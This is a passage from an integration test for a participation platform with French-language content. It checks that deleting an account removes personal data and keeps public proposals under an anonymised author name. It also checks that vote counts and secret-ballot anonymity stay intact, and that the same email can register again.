        'data_exports',
        'terms_acceptances',
        'space_roles',
      ]) {
        expect([
          table,
          (await t.sql(`SELECT count(*)::int AS n FROM ${table} WHERE user_id = $1`, [user.id]))[0]
            .n,
        ]).toEqual([table, 0]);
      }
      expect(
        (
          await t.sql(
            `SELECT college, left_at IS NOT NULL AS left FROM assembly_members WHERE user_id = $1`,
            [user.id],
          )
        )[0],
      ).toEqual({ college: null, left: true });
      expect((await t.gql(ME, {}, user.token)).data.me).toBeNull();
      expect(errorCode(await login(user.email, PASSWORD))).toBe('UNAUTHENTICATED');

      // public content kept under a stable name
      const shown = await t.gql(`query($id: ID!) { proposal(id: $id) { title author { name } } }`, {
        id: proposalId,
      });
      expect(shown.data.proposal).toEqual({
        title: 'Une proposition qui restera après le départ',
        author: { name: 'Participant supprimé' },
      });
      expect(
        (
          await t.sql(`SELECT author_id FROM comments WHERE id = $1`, [comment.data.addComment.id])
        )[0].author_id,
      ).toBe(user.id);
      // supports and votes still counted, counters equal to rows
      const [support] = await t.sql(
        `SELECT p.supports_count, (SELECT count(*)::int FROM proposal_supports s WHERE s.proposal_id = p.id AND s.counted) AS rows FROM proposals p WHERE p.id = $1`,
        [othersProposal],
      );
      expect(support).toEqual({ supports_count: supportsBefore, rows: supportsBefore });
      expect([await tally(publicMotion), await tally(secretMotion)]).toEqual(talliesBefore);
      const [followed] = await t.sql(
        `SELECT p.follows_count, (SELECT count(*)::int FROM follows f WHERE f.followable_type = 'PROPOSAL' AND f.followable_id = p.id) AS rows FROM proposals p WHERE p.id = $1`,
        [othersProposal],
      );
      expect(followed.follows_count).toBe(followed.rows);
      expect(followed.rows).toBe(1); // its author's follow only
      // secret ballot: the same ballots, still without any voter column, and no participation points at the secret one
      expect(
        await t.sql(
          `SELECT id, motion_id, choice, weight FROM motion_ballots WHERE motion_id IN ($1, $2) ORDER BY id`,
          [publicMotion, secretMotion],
        ),
      ).toEqual(ballotsBefore);
      expect(
        (
          await t.sql(
            `SELECT column_name FROM information_schema.columns WHERE table_name = 'motion_ballots'`,
          )
        )
          .map((c) => c.column_name)
          .sort(),
      ).toEqual(['choice', 'id', 'motion_id', 'weight']);
      expect(
        (
          await t.sql(`SELECT ballot_id FROM motion_participations WHERE motion_id = $1`, [
            secretMotion,
          ])
        )[0].ballot_id,
      ).toBeNull();
      // trace without personal data
      const [log] = await t.sql(
        `SELECT visibility, summary FROM action_logs WHERE user_id = $1 AND action = 'delete_account'`,
        [user.id],
      );
      expect(log).toEqual({ visibility: 'ADMIN_ONLY', summary: 'Suppression de compte' });

      // the address is free for a new account
      const again = await t.gql(REGISTER, {
        input: {
          name: 'Dominique Retour',
          email: user.email.toUpperCase(),
          password: PASSWORD,
          ...(await t.currentTermsVersions()),
        },
      });
      expect(again.data.register.user.id).not.toBe(user.id);
    });
  });
});
